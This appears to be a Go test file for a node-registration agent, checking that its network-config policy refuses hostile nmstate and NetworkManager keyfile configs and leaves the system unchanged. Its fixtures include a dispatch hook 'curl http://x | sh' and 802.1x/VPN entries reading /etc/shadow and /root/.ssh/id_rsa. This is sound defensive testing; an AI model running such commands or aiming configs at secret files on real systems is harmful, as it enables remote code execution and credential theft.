package hostile

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gopkg.in/yaml.v3"

	"github.com/nodereg/nodereg/agent"
	"github.com/nodereg/nodereg/agent/exitcode"
	"github.com/nodereg/nodereg/internal/state"
	"github.com/nodereg/nodereg/internal/testutil"
	"github.com/nodereg/nodereg/internal/testutil/node"
	"github.com/nodereg/nodereg/internal/testutil/testbin"
	"github.com/nodereg/nodereg/netpolicy"
)

// policyAttack is one network config of docs/reliability.md's
// "Network-config policy" that the network policy
// must refuse, and the key path and rule the refusal must name.
type policyAttack struct {
	name, configurator string
	config             map[string]any
	path               string
	rule               netpolicy.Rule
}

func eth0(extra map[string]any) map[string]any {
	m := map[string]any{"name": "eth0", "type": "ethernet", "state": "up",
		"ipv4": map[string]any{"enabled": true, "dhcp": false, "address": []any{map[string]any{"ip": "{ip1}", "prefix-length": 24}}}}
	for k, v := range extra {
		m[k] = v
	}
	return m
}

// nmstateAttacks are the policy's nmstate attacks.
var nmstateAttacks = []policyAttack{
	{name: "hostname", config: map[string]any{"interfaces": []any{eth0(nil)}, "hostname": map[string]any{"config": "owned"}},
		path: "config.hostname", rule: netpolicy.Hostname},
	{name: "802.1x", config: map[string]any{"interfaces": []any{eth0(map[string]any{"802.1x": map[string]any{
		"identity": "node", "eap-methods": []any{"tls"}, "ca-cert": "/etc/shadow", "private-key": "/root/.ssh/id_rsa"}})}},
		path: "config.interfaces[0].802.1x", rule: netpolicy.FilesAndSecrets},
	{name: "dispatch", config: map[string]any{"interfaces": []any{eth0(map[string]any{"dispatch": map[string]any{"post-activation": "curl http://x | sh"}})}},
		path: "config.interfaces[0].dispatch", rule: netpolicy.Scripts},
	{name: "vlan-cycle", config: map[string]any{"interfaces": []any{eth0(nil),
		map[string]any{"name": "v1", "type": "vlan", "state": "up", "vlan": map[string]any{"base-iface": "v2", "id": 10}},
		map[string]any{"name": "v2", "type": "vlan", "state": "up", "vlan": map[string]any{"base-iface": "v1", "id": 20}}}},
		path: "config.interfaces[1].vlan.base-iface", rule: netpolicy.VLANCycle},
}

const (
	kfHead     = "[connection]\nid=eth0\nuuid=3f1c0d52-9b7e-4d1a-8f52-6a0c2d7e1b01\ntype=ethernet\ninterface-name=eth0\n\n[ipv4]\nmethod=manual\naddress1={ip1}/24,192.168.122.1\n"
	imageUUID  = "8d2f6a41-0c3b-4e5f-9a7d-1b2c3d4e5f60"
	imageKFile = "usr/lib/NetworkManager/system-connections/image-eth0.nmconnection"
)

// nmconnectionsAttacks are the policy's keyfile attacks.
var nmconnectionsAttacks = []policyAttack{
	{name: "802-1x", config: map[string]any{"eth0": kfHead + "\n[802-1x]\neap=tls;\nidentity=node\nca-cert=/etc/shadow\nprivate-key=/root/.ssh/id_rsa\n"},
		path: "config.eth0.nmconnection [802-1x]", rule: netpolicy.FilesAndSecrets},
	{name: "vpn", config: map[string]any{"eth0": strings.Replace(kfHead, "type=ethernet", "type=vpn", 1) + "\n[vpn]\nservice-type=org.freedesktop.NetworkManager.openvpn\nca=/etc/shadow\n"},
		path: "config.eth0.nmconnection [vpn]", rule: netpolicy.FilesAndSecrets},
	{name: "proxy", config: map[string]any{"eth0": kfHead + "\n[proxy]\nmethod=1\npac-url=http://proxy.invalid/wpad.dat\n"},
		path: "config.eth0.nmconnection [proxy] method", rule: netpolicy.Proxy},
	{name: "permissions", config: map[string]any{"eth0": strings.Replace(kfHead, "type=ethernet", "type=ethernet\npermissions=user:root;", 1)},
		path: "config.eth0.nmconnection [connection] permissions", rule: netpolicy.Permissions},
	{name: "unknown-section", config: map[string]any{"eth0": kfHead + "\n[tc]\nqdisc.root=fq_codel\n"},
		path: "config.eth0.nmconnection [tc]", rule: netpolicy.Unknown},
	{name: "escaped-blank", config: map[string]any{"eth0": strings.Replace(kfHead, "interface-name=eth0", `interface-name=eth0\s`, 1)},
		path: "config.eth0.nmconnection [connection] interface-name", rule: netpolicy.Names},
	{name: "uuid-of-an-image-profile", config: map[string]any{"eth0": strings.Replace(kfHead, "3f1c0d52-9b7e-4d1a-8f52-6a0c2d7e1b01", imageUUID, 1)},
		path: "config.eth0.nmconnection [connection] uuid", rule: netpolicy.Unique},
}

// policyServer answers MsgConfig with the attack's network config.
func policyServer(t *testing.T, a policyAttack) string {
	t.Helper()
	doc := map[string]any{
		"elemental":    map[string]any{"registration": map[string]any{"auth": "mac"}},
		"configurator": a.configurator, "ipAddresses": map[string]any{"ip1": "192.168.122.10"}, "config": a.config,
	}
	b, err := yaml.Marshal(doc)
	testutil.Must(t, err)
	s := &Server{Config: b}
	url, _ := s.Start(t, false, "tok")
	return url
}

// imageProfile is the image's own profile for eth0, as NetworkManager loads
// it (root-only), which a server profile must never hide.
func imageProfile(t *testing.T, m *node.Machine) {
	t.Helper()
	p := filepath.Join(m.Root, imageKFile)
	testutil.Must(t, os.MkdirAll(filepath.Dir(p), 0o755))
	testutil.Must(t, os.WriteFile(p, []byte("[connection]\nid=image-eth0\nuuid="+imageUUID+"\ntype=ethernet\ninterface-name=eth0\n\n[ipv4]\nmethod=auto\n"), 0o600))
}

// refusedUnchanged runs the agent once and checks the refusal: exit 78, the
// key path and rule in the error, the scratch root as it was (the state
// lock's file aside, and the state file, which may gain only the refusal
// kept to report back, docs/annotations.md), nothing run but what planning
// runs.
func refusedUnchanged(t *testing.T, m *node.Machine, a policyAttack, o agent.Options) string {
	t.Helper()
	imageProfile(t, m)
	before := testutil.Files(t, m.Root)
	var log node.Log
	o.Deadline, o.NetworkTimeout = 5*time.Second, 5*time.Second
	_, err := runAgent(t.Context(), m, &log, o)
	if code := exitcode.Of(err); code != exitcode.Config {
		t.Fatalf("exit %d (%v), want 78\n%s", code, err, log.String())
	}
	if msg := err.Error(); !strings.Contains(msg, a.path) || !strings.Contains(msg, "rule "+string(a.rule)) {
		t.Errorf("the refusal does not name %s and rule %s: %v", a.path, a.rule, err)
	}
	after := testutil.Files(t, m.Root)
	delete(after, filepath.Join(filepath.Dir(node.StatePath), ".nodereg.lock"))
	if st, ok := after[node.StatePath]; ok && string(st) != string(before[node.StatePath]) {
		keptRefusalOnly(t, st)
		delete(after, node.StatePath)
		delete(before, node.StatePath)
	}
	if ch := testutil.Changed(before, after); len(ch) > 0 {
		t.Errorf("files changed by a refused config: %v", ch)
	}
	calls, _ := os.ReadFile(m.StubDir + "/calls.jsonl")
	return string(calls)
}

// refuseEach runs each attack as a subtest on a machine of its own (mac,
// local under elemental.registration, the attack's configurator unless
// configurator names one): each is refused with exit 78 and nothing
// written. With the nmstatectl stand-in as the generator (local names it;
// the caller has called useStub) nothing may reach the tool either, and the
// subtests run one by one; the others run in parallel.
func refuseEach(t *testing.T, attacks []policyAttack, configurator, mac, local string) {
	t.Helper()
	stub := strings.Contains(local, "nmstatectl")
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			if !stub {
				t.Parallel()
			}
			if configurator != "" {
				a.configurator = configurator
			}
			m := node.New(t, mac, policyServer(t, a), local)
			if calls := refusedUnchanged(t, m, a, agent.Options{}); stub && calls != "" {
				t.Errorf("nmstatectl was called for a refused config:\n%s", calls)
			}
		})
	}
}

// TestPolicyNmstateBuiltin: the nmstate attacks through the built-in
// translator.
func TestPolicyNmstateBuiltin(t *testing.T) {
	refuseEach(t, nmstateAttacks, "nmstate", "52:54:00:15:00:01", "    nmstate: builtin\n")
}

// TestPolicyNmstateNmstatectl: the same attacks with nmstatectl (the stand-in)
// as the generator: nothing of them reaches the tool, not even gc.
func TestPolicyNmstateNmstatectl(t *testing.T) {
	useStub(t)
	refuseEach(t, nmstateAttacks, "nmstate", "52:54:00:15:00:02", "    nmstate: nmstatectl\n")
}

// TestPolicyNmconnections: the keyfile attacks as server keyfiles.
func TestPolicyNmconnections(t *testing.T) {
	refuseEach(t, nmconnectionsAttacks, "nmconnections", "52:54:00:15:00:03", "")
}

// TestPolicyResetHandOver: --reset and --install refuse to hand over a
// profile NetworkManager would not load (item 4) or that the policy
// refuses, exactly as a boot does: exit 78, no hook, the toolkit never
// called.
func TestPolicyResetHandOver(t *testing.T) {
	elemental := testbin.Build(t, "./tests/stubs/elemental")
	modes := map[string]agent.Mode{"reset": agent.ModeReset, "install": agent.ModeInstall}
	for _, a := range []policyAttack{nmconnectionsAttacks[5], nmconnectionsAttacks[0], nmconnectionsAttacks[6]} {
		for mode, mv := range modes {
			t.Run(mode+"/"+a.name, func(t *testing.T) {
				a.configurator = "nmconnections"
				log := filepath.Join(t.TempDir(), "elemental.jsonl")
				t.Setenv("NODEREG_ELEMENTAL", elemental)
				t.Setenv("ELEMENTAL_STUB_LOG", log)
				m := node.New(t, "52:54:00:15:00:04", policyServer(t, a), "")
				t.Setenv("ELEMENTAL_STUB_ROOT", m.Root)
				refusedUnchanged(t, m, a, agent.Options{Mode: mv})
				if b, err := os.ReadFile(log); err == nil {
					t.Errorf("elemental was called:\n%s", b)
				}
			})
		}
	}
}

// TestPolicyOptIn: the local config's network-policy lets an opt-in rule
// through (here a proxy), and a server sending the key is ignored with a
// warning.
func TestPolicyOptIn(t *testing.T) {
	a := nmconnectionsAttacks[2]
	a.configurator = "nmconnections"
	doc := map[string]any{
		"elemental":    map[string]any{"registration": map[string]any{"auth": "mac", "network-policy": map[string]any{"allow": []any{"permissions"}}}},
		"configurator": a.configurator, "ipAddresses": map[string]any{"ip1": "192.168.122.10"}, "config": a.config,
	}
	b, err := yaml.Marshal(doc)
	testutil.Must(t, err)
	s := &Server{Config: b}
	url, _ := s.Start(t, false, "tok")
	m := node.New(t, "52:54:00:15:00:05", url, "    network-policy:\n      allow: [proxy]\n")
	var log node.Log
	o := agent.Options{Deadline: 5 * time.Second, NetworkTimeout: 5 * time.Second, PersistOnly: true}
	if _, err := runAgent(t.Context(), m, &log, o); err != nil {
		t.Fatalf("a proxy the node allows was refused: %v\n%s", err, log.String())
	}
	// --root without --apply-live: the applicator carries the keyfile.
	yip, err := os.ReadFile(filepath.Join(m.Root, "oem/elemental-network.yaml"))
	if err != nil || !strings.Contains(string(yip), "pac-url=") {
		t.Errorf("keyfile not persisted as allowed: %v\n%s", err, yip)
	}
	if !strings.Contains(log.String(), "the server's "+netpolicy.Key+" is ignored") {
		t.Errorf("no warning about the server's policy key:\n%s", log.String())
	}
}

// keptRefusalOnly: a state file the refused run wrote holds the refusal
// (kind refused, phase plan) and no network config recorded as applied.
func keptRefusalOnly(t *testing.T, b []byte) {
	t.Helper()
	var st state.State
	if err := yaml.Unmarshal(b, &st); err != nil {
		t.Fatalf("state file after a refusal: %v", err)
	}
	if st.NetworkErrorKind != "refused" || st.NetworkErrorPhase != string(agent.PhasePlan) || st.NetworkDigest != "" || st.NetworkState != "" {
		t.Errorf("state file after a refusal: error kind %q phase %q, digest %q state %q; want the refusal kept (refused, plan) and nothing applied",
			st.NetworkErrorKind, st.NetworkErrorPhase, st.NetworkDigest, st.NetworkState)
	}
}
